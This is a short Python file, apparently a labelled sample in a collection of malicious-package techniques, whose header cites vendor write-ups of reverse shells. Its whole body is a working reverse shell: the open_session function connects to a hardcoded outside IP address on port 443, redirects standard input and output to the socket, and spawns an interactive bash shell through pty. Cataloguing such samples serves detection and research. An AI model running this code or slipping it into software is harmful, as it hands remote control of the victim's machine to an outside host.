# technique: reverse shell upgraded with pty.spawn
# class: reverse-shell
# source: Snyk and JFrog write-ups of reverse shells in malicious packages
# declares: network
import os
import pty
import socket


def open_session(host="185.196.8.123", port=443):
    s = socket.socket()
    s.connect((host, port))
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
    pty.spawn("/bin/bash")
